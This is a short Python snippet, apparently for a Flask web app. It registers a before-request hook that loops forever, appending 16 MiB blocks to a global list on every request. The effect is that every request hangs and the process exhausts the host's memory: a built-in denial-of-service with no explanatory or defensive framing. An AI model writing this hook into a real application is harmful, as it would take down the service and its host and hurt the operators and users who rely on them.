hoard = []


@app.before_request
def eat():
    while True:
        hoard.append(b"x" * 2**24)
